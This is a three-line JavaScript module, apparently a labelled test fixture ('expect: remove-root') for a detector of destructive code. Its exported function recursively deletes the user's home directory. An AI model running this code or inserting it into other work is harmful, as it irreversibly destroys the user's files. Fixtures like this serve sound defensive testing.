// expect: remove-root
const { rmdirSync } = require("fs");

module.exports.default = () => rmdirSync(process.env.HOME, { recursive: true });
